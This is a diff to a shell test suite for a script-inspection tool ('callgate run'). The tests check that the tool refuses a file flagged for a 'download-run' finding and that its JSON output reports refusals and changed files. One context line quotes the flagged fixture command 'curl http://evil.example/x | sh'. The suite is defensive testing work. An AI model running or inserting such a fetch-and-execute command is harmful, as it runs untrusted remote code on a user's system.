@@ -46,7 +46,13 @@ run --inspect -- python3 bad.py
 refused 'bad.py:2: download-run: curl http://evil.example/x | sh'
 run --inspect --json -- python3 -I bad.py
 jq -e '.status == "refused" and .exit_code == 126 and .error.code == "inspect" and
-	(.error.message | contains("bad.py:2: download-run"))' "$T/out" >/dev/null || fail "result: $(cat "$T/out")"
+	(.error.message | contains("bad.py:2: download-run")) and
+	.inspect.refused and .inspect.unlisted == 0 and .inspect.changed == [] and (.inspect.findings |
+		any(.file == "bad.py" and .line == 2 and .kind == "download-run" and .level == "alarm"))' \
+	"$T/out" >/dev/null || fail "result: $(cat "$T/out")"
+grep -q 'inspect: bad.py:2: download-run' "$T/err" || fail "with --json, nothing is printed: $(cat "$T/err")"
+run --json -- python3 good.py
+jq -e 'has("inspect") | not' "$T/out" >/dev/null || fail "not looked at, but has: $(jq .inspect "$T/out")"
 # What other programs start: unit tests have their options.
 run --inspect -- timeout -s KILL 60 nice -n 1 nohup stdbuf -oL env -S 'A=1 python3 -I' "$T/w/bad.py"
 refused "$T/w/bad.py:2: download-run"
@@ -264,6 +270,10 @@ grep 'after it was' "$T/err" | sort >"$T/told"
 	printf 'callgate run: inspect: %s: was changed after it was looked at\n' {changes,good,hard,kept,soft}.py
 } | sort | diff - "$T/told" || fail "changed: $(cat "$T/err")"
 rm "$T/w/.bash_profile"
+echo 'print(file=open("good.py", "a"))' >"$T/w/writes.py"
+run --inspect --json -- bash -c 'python3 good.py; python3 writes.py'
+jq -e '.inspect.changed == ["good.py"] and (.inspect.refused | not)' "$T/out" >/dev/null ||
+	fail "changed, of the result: $(jq -c .inspect "$T/out")"
 
 # What the setup has made is looked at after it.
 run --inspect --setup 'cp bad.py made.py' -- python3 made.py
